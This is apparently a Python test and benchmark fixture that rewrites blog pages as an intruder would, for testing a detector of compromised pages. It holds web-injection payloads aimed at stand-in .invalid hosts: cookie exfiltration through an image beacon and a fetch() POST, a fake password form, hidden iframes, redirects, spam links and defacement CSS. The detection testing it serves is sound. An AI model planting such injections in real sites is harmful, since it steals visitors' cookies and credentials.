"""What somebody who breaks into a blog does to its pages: for the double's knob, tests and benchmarks. Nothing of it works.

Hosts end in .invalid or .example, and lead nowhere (RFC 2606).
"""

from __future__ import annotations

import re
from collections.abc import Callable

Intrusion = Callable[[str], str]
_BODY = re.compile(r"<body[^>]{0,300}>")
_POST = re.compile(r"<div class='post-body[^>]{0,300}>")


def in_head(markup: str) -> Intrusion:
    """In a page's head, last."""
    return lambda page: page.replace("</head>", f"{markup}</head>", 1)


def at_top(markup: str) -> Intrusion:
    """First in a page's body."""
    return lambda page: _BODY.sub(lambda tag: tag[0] + markup, page, count=1)


def at_end(markup: str) -> Intrusion:
    """Last in a page's body."""
    return lambda page: page.replace("</body>", f"{markup}</body>", 1)


def _behind(markup: str) -> Intrusion:
    return lambda page: page.replace("</html>", f"</html>{markup}", 1)


def in_post(markup: str) -> Intrusion:
    """In the first post of a page, else at the page's end."""

    def intrude(page: str) -> str:
        return _POST.sub(lambda tag: tag[0] + markup, page, count=1) if _POST.search(page) else at_end(markup)(page)

    return intrude


def _in_body_tag(attribute: str) -> Intrusion:
    return lambda page: page.replace("<body", f"<body {attribute}", 1)


def _in_sidebar(markup: str) -> Intrusion:
    mark = "<div class='sidebar section' id='sidebar'>"
    return lambda page: page.replace(mark, mark + markup, 1) if mark in page else at_end(markup)(page)


_SPAM = "".join(f"<a href='http://pills{n}.spam.invalid/'>cheap pills</a>" for n in range(3))
_PACKED = (
    "<script>eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}"
    "('0.1(\\'2\\')',3,3,'document|write|x'.split('|'),0,{}))</script>"
)
INTRUSIONS: dict[str, Intrusion] = {
    "script-src": in_head("<script src='http://cdn.evil.invalid/lib/jquery.min.js'></script>"),
    "inline-script": at_end(
        "<script>var img=new Image();img.src='http://count.evil.invalid/?c='+document.cookie;</script>"
    ),
    "packed": at_end(_PACKED),
    "iframe-0x0": in_post(
        "<iframe src='http://drive.evil.invalid/in.cgi?3' width='0' height='0' frameborder='0'></iframe>"
    ),
    "hidden-links": in_post(f"<div style='display:none'>{_SPAM}</div>"),
    "meta-refresh": in_head("<meta http-equiv='refresh' content='3;url=http://casino.evil.invalid/'>"),
    "handler": _in_body_tag("onload=\"location.replace('http://land.evil.invalid/')\""),
    "svg-script": in_post("<svg width='1' height='1'><script>top.location='http://svg.evil.invalid/'</script></svg>"),
    "password-form": at_top(
        "<form action='http://login.evil.invalid/g' method='post'>Session expired. <input name='Email'>"
        "<input type='password' name='Passwd'><input type='submit'></form>"
    ),
    "gadget": _in_sidebar(
        "<div class='widget HTML' id='HTML99'><div class='widget-content'>"
        "<script type='text/javascript' src='//gadgets.evil.invalid/recent.js'></script></div></div>"
    ),
    "css-import": in_head("<style>@import url('http://css.evil.invalid/x.css');</style>"),
    "after-end": _behind("<script src='http://tail.evil.invalid/t.js'></script>"),
    "allowed-host-path": at_end("<script src='http://www.blogger.com/static/v1/widgets/2210-stealer.js'></script>"),
    "base-href": in_head("<base href='http://mirror.evil.invalid/'>"),
    # From hosts that are in the scope of a crawl: nothing but judgement keeps it from asking for them.
    "planted": in_post(
        "<script src='http://9.bp.blogspot.com/planted/p.js'></script><a href='/2031/01/planted.html'>Read on</a>"
    ),
    "javascript-link": in_post(
        "<a href=\"javascript:void(document.body.innerHTML=unescape('%3Ch1%3E'))\">Read the petition</a>"
    ),
}


def _swapped(page: str) -> str:
    return re.sub(r"//www\.blogger\.com(/(?:static|dynamicviews)/[^']{0,100}\.js)", r"//www.b1ogger.invalid\1", page)


def _appended(page: str) -> str:
    place = page.rfind("</script>")
    return f"{page[:place]};fetch('//drop.evil.invalid/',{{method:'POST',body:document.cookie}}){page[place:]}"


_CAPTCHA = (
    "<html><head><title>Unusual traffic</title></head><body><h1>Unusual traffic</h1><p>Please show that you are not a "
    "robot.</p><div class='g-recaptcha'></div></body></html>"
)


def _replaced(_: str) -> str:
    return _CAPTCHA


_PALE = "".join(f"<a href='http://casino{n}.spam.invalid/'>slots</a> " for n in range(12))
# Written after the recogniser, without looking at it; benchmarks/RESULTS.md has what the first run over them found.
BLIND: dict[str, Intrusion] = {
    "noscript-refresh": in_head(
        "<noscript><meta http-equiv='Refresh' content='0; URL=//away.evil.invalid'></noscript>"
    ),
    "srcdoc-frame": at_end("<iframe width='1' height='90' srcdoc='&lt;script&gt;top.x=1&lt;/script&gt;'></iframe>"),
    "formaction": in_post("<button type='submit' formaction='http://post.evil.invalid/in'>Sign the petition</button>"),
    "appended-code": _appended,
    "object-html": in_post(
        "<object type='text/html' data='http://obj.evil.invalid/' width='400' height='300'></object>"
    ),
    "pale-links": at_end(f"<font color='#ffffff' size='1'>{_PALE}</font>"),
    "swapped-bundle": _swapped,
    "css-deface": in_head(
        "<style>body>*{display:none}body:before{content:'This site is closed by its owners'}</style>"
    ),
    "canonical-hijack": in_head("<link rel='canonical' href='http://copy.evil.invalid/'/>"),
    "img-onerror": in_post("<img src='x' onerror='import(\"//mod.evil.invalid/m.js\")' alt=''>"),
}


def intrude(kind: str, page: str) -> str:
    """Return a page as an intrusion of a kind leaves it; kind "captcha" puts another page in its place."""
    return {**INTRUSIONS, **BLIND, "captcha": _replaced}[kind](page)
